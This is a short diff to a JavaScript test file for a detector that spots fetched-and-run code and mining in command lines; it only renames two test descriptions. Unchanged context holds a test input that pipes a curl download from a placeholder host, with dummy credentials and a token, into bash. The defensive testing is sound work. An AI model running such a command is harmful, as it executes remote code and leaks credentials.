@@ -103,7 +103,7 @@ describe('code that is fetched and run', () => {
       assert.notEqual(fetchedCodeIn(readCommandText(line)), undefined);
     });
 
-  it('is told with the host that it comes from, and without what else the line holds', () => {
+  it('is reported with the host that it comes from, and without what else the line holds', () => {
     assert.deepEqual(
       fetchedCodeIn(
         readCommandText('curl -u me:hunter2 https://user:pass@Drop.example:8443/x?token=abc | bash'),
@@ -184,7 +184,7 @@ describe('mining', () => {
 });
 
 describe('a command line of any kind', () => {
-  it('is judged without failing', () => {
+  it('is read without failing', () => {
     const part = fc.constantFrom(
       ...[
         '$(',
